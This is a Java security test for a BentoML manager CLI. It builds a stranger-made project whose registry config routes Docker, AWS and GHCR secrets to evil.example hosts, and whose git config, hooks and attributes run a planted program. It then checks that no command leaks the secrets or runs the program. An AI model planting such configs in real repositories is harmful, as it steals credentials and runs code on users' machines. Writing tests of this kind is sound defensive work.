package com.bentoml.manager.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.bentoml.manager.process.CommandResult;
import com.bentoml.manager.process.LocalCommands;
import com.bentoml.manager.testing.Cli;
import com.bentoml.manager.testing.FakeDocker;
import com.bentoml.manager.testing.SampleRelease;
import com.bentoml.manager.testing.Trees;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Every command in a project whose files were all made by a stranger: it asks for the user's variables for hosts of its
 * own, and has programs that leave a mark wherever git, docker and this program may look for some.
 */
class HostileProjectTest {
    private static final Map<String, String> SECRETS = Map.of(
            "DOCKER_USER", "planted-user-1",
            "DOCKER_PASS", "planted-2",
            "DOCKER_PASSWORD", "planted-3",
            "GHCR_TOKEN", "planted-4",
            "AWS_SECRET_ACCESS_KEY", "planted-5",
            "QUAY_API_KEY", "planted-6",
            "MY_OWN", "planted-7");

    private static final String REGISTRIES = """
            docker.io: {server: evil.example, provider: none, username_variable: DOCKER_USER, password_variable: DOCKER_PASS}
            quay.io: {server: evil.example:8443, provider: quay, username_variable: EVIL_USER, password_variable: AWS_SECRET_ACCESS_KEY, api_key_variable: QUAY_API_KEY}
            leak: {server: "${GHCR_TOKEN}.evil.example", provider: none, username_variable: EVIL_USER, password_variable: EVIL_PASS}
            own: {server: "${MY_OWN}.evil.example", provider: harbor2, username_variable: GHCR_TOKEN, password_variable: MY_OWN}
            harbor: {server: harbor.evil.example, provider: harbor2, username_variable: EVIL_USER, password_variable: MY_OWN}
            helped: {server: helped.evil.example, provider: none, credential_helper: fake}
            """;

    @TempDir
    Path folder;

    @TempDir
    Path user;

    @TempDir
    Path state;

    private FakeDocker docker;
    private SampleRelease release;
    private Path mark;
    private Map<String, String> environment;

    @BeforeEach
    void makeProject() throws IOException {
        release = SampleRelease.in(folder, state);
        docker = release.docker();
        mark = user.resolve("mark");
        release.project()
                .file("manifest/registries.yaml", REGISTRIES)
                .file(
                        ".env",
                        "EVIL_USER=x\nEVIL_PASS=y\nMANAGER_TRUSTED_REGISTRIES=evil.example\n"
                                + "MANAGER_REGISTRY=evil.example\n")
                .file(".config/manager/trusted-registries", "evil.example\n")
                .file(".docker/config.json", "{\"credsStore\": \"fake\"}");
        release.generate("--registry", "evil.example");
        Trees.write(folder.resolve("generated/bento-server/mine.txt"), "mine\n");
        for (String name : List.of("git", "setsid", "setpriv", "docker", "docker-credential-fake", "program")) {
            program(folder.resolve(name), "echo \"$0 $*\" >>" + mark + "; cat");
        }
        program(user.resolve("bin/docker-credential-fake"), "echo helper \"$*\" >>" + mark + "; cat >>" + mark);
        environment = new HashMap<>(SECRETS);
        environment.put("HOME", user.toString());
        environment.put(
                "PATH", ":.:" + user.resolve("bin") + ":" + docker.environment().get("PATH"));
        plantInGit();
    }

    private void plantInGit() {
        String program = folder.resolve("program").toString();
        Trees.write(folder.resolve(".gitattributes"), "* filter=evil diff=evil\n");
        shell("git init -q . && git add -A && git -c user.name=x -c user.email=x@evil.example commit -qm x"
                + " && git remote add origin ssh://evil.example/x");
        for (String key : List.of(
                "core.fsmonitor",
                "core.pager",
                "core.sshCommand",
                "diff.external",
                "diff.evil.textconv",
                "diff.evil.command",
                "filter.evil.clean",
                "filter.evil.process",
                "gpg.program",
                "credential.helper",
                "remote.origin.uploadpack",
                "alias.rev-parse",
                "alias.cat-file")) {
            shell("git config " + key + " " + program);
        }
        for (String hook : List.of("post-index-change", "reference-transaction", "pre-auto-gc")) {
            program(folder.resolve(".git/hooks/" + hook), "echo hook >>" + mark);
        }
        mark.toFile().delete();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "validate",
                "generate",
                "generate --check",
                "generate --overwrite",
                "generate --dump_metadata -v 5",
                "plan",
                "plan --output json",
                "plan --offline -v 5",
                "explain base-python3.9-one",
                "audit",
                "prune --yes",
                "build",
                "build -v 5 --output json",
                "build --no_push --force --distros one",
                "build --dry_run -v",
                "build --push_readmes",
                "push-readmes",
                "push-readmes --registry harbor,quay.io,own",
                "authenticate",
                "authenticate -v 5",
                "authenticate --registry docker.io",
                "authenticate --registry helped,leak,own,harbor",
                "authenticate --check",
                "authenticate --logout",
                "create-manifest --docker_package other --distros debian11",
                "schema",
                "completion bash",
                "--help"
            })
    void noCommandSendsOrStartsAnything(String command) {
        for (boolean anonymous : new boolean[] {false, true}) {
            if (anonymous) {
                docker.registry().anonymousUntil(() -> false);
            }
            Cli.Result result = release.run(environment, command.split(" "));

            assertThat(result.status()).as(result.err()).isIn(0, 1, 2, 3, 4, 5);
            assertThat(Trees.read(user)).as("what programs leave").doesNotContainKey("mark");
            assertThat(docker.lines("calls")).noneMatch(it -> it.contains("login --username") && it.contains("evil"));
            assertThat(docker.has("password")).as(docker.read("password")).isFalse();
            assertThat(result.out()
                            + result.err()
                            + docker.read("calls")
                            + docker.read("environment")
                            + Trees.read(folder.resolve("generated"))
                            + Trees.read(folder.resolve(".manager")))
                    .doesNotContain("planted");
        }
        assertThat(user.resolve(".docker")).doesNotExist();
    }

    /** Else none of the above would show anything. */
    @Test
    void theSameIsSentWhereTheUserNamesTheHost() {
        Map<String, String> trusting = new HashMap<>(environment);
        trusting.put("MANAGER_TRUSTED_REGISTRIES", "evil.example,helped.evil.example");

        release.run(trusting, "authenticate");

        assertThat(docker.read("password")).isEqualTo("planted-2\n");
        assertThat(Trees.text(mark)).isEqualTo("helper get\nhelped.evil.example");
        shell("git status >/dev/null");
        assertThat(Trees.text(mark)).contains(folder.resolve("program").toString());
    }

    private static void program(Path file, String script) {
        try {
            Trees.write(file, "#!/bin/sh\n" + script + "\n");
            Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwx------"));
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private void shell(String script) {
        assertThat(new LocalCommands(Duration.ofSeconds(30)).run(List.of("sh", "-c", script), folder))
                .isInstanceOfSatisfying(
                        CommandResult.Exited.class,
                        it -> assertThat(it.status()).as(script + it.output()).isZero());
    }
}
